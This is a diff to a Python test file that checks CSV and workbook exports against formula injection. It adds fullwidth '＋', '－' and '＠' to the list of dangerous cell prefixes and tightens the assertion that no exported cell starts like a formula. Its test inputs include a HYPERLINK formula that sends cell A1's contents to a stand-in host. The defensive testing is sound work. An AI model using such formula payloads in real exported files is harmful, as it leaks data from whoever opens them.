@@ -15,7 +15,7 @@ from desk.reports.stat_workbook import Graph, Kind, TableSheet, stat_workbook
 from desk.reports.workbook import Column, Sheet, workbook_bytes
 from desk.stat_table import Head, StatTable
 
-STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "'=", "==", "=+")
+STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "==", "=+")
 CALLS = (
     "1+1",
     'HYPERLINK("http://x.cn/?"&A1,"点这里")',
@@ -71,7 +71,7 @@ def test_a_list_for_other_programs_has_no_cell_that_begins_like_a_formula():
     text = list_csv(files).decode("utf-8-sig")
     cells = [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]
     assert len(cells) > len(HOSTILE)
-    assert not [one for one in cells if one[:1] in {"=", "+", "-", "@", "\t", "\r", "\n"}]
+    assert not [one for one in cells if one[:1] in set("=+-@＝＋－＠\t\r\n")]
 
 
 def modules_that_use(name):
